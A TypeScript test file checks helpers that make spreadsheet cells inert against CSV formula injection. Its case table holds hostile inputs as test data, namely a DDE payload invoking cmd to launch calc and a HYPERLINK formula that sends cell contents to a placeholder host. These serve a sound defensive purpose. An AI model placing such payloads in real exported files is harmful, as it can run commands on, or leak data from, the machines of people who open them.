import { csvCell, csvText, fromInertCell, inertCell } from './sheet-cells';

/** Every row: the text, the cell as written inert, and as one CSV field. */
const SHEET_CELL_CASES: ReadonlyArray<[label: string, text: string, inert: string, csv: string]> = [
  ['plain text', '沈建华', '沈建华', '沈建华'],
  ['empty', '', '', ''],
  ['a formula', '=1+1', "'=1+1", "'=1+1"],
  ['a DDE payload', "=1+1+cmd|' /C calc'!A0", "'=1+1+cmd|' /C calc'!A0", "'=1+1+cmd|' /C calc'!A0"],
  ['HYPERLINK with quotes and a comma', '=HYPERLINK("http://x/?d="&A1,"点击")', `'=HYPERLINK("http://x/?d="&A1,"点击")`, `"'=HYPERLINK(""http://x/?d=""&A1,""点击"")"`],
  ['a leading plus', '+1+1', "'+1+1", "'+1+1"],
  ['a leading minus before text', '-沈建华', "'-沈建华", "'-沈建华"],
  ['a minus formula', '-2+3', "'-2+3", "'-2+3"],
  ['a leading at', '@SUM(A1)', "'@SUM(A1)", "'@SUM(A1)"],
  ['a leading tab', '\t=1+1', "'\t=1+1", `"'\t=1+1"`],
  ['a leading carriage return', '\r=1+1', "'\r=1+1", `"'\r=1+1"`],
  ['a formula sign inside, not first', 'a=1+1', 'a=1+1', 'a=1+1'],
  ['a negative amount stays a number', '-12.50', '-12.50', '-12.50'],
  ['a negative whole number', '-5', '-5', '-5'],
  ['a positive amount', '345.67', '345.67', '345.67'],
  ['zero', '0', '0', '0'],
  ['a minus with an exponent is not a plain number', '-1E5', "'-1E5", "'-1E5"],
  ['a lone minus', '-', "'-", "'-"],
  ['a phone number', '13857212345', '13857212345', '13857212345'],
  ['a semicolon (locales with ; as separator)', 'x;=1+1', 'x;=1+1', '"x;=1+1"'],
  ['a tab inside', 'a\tb', 'a\tb', '"a\tb"'],
  ['a comma', 'a,b', 'a,b', '"a,b"'],
  ['a quote', 'say "hi"', 'say "hi"', '"say ""hi"""'],
  ['a line break', 'a\nb', 'a\nb', '"a\nb"'],
];

describe('spreadsheet cells', () => {
  it.each(SHEET_CELL_CASES)('%s: made inert', (_label, text, inert) => {
    expect(inertCell(text)).toBe(inert);
  });

  it.each(SHEET_CELL_CASES)('%s: as a CSV field', (_label, text, _inert, csv) => {
    expect(csvCell(text)).toBe(csv);
  });

  it.each(SHEET_CELL_CASES)('%s: read back as written', (_label, text, inert) => {
    expect(fromInertCell(inert)).toBe(text);
  });

  it('writes a file with a BOM, CRLF lines and blanks for missing cells', () => {
    expect(csvText([['名称', '金额'], ['=1+1', '-12.50'], [null, undefined]])).toBe("\uFEFF名称,金额\r\n'=1+1,-12.50\r\n,\r\n");
  });
});
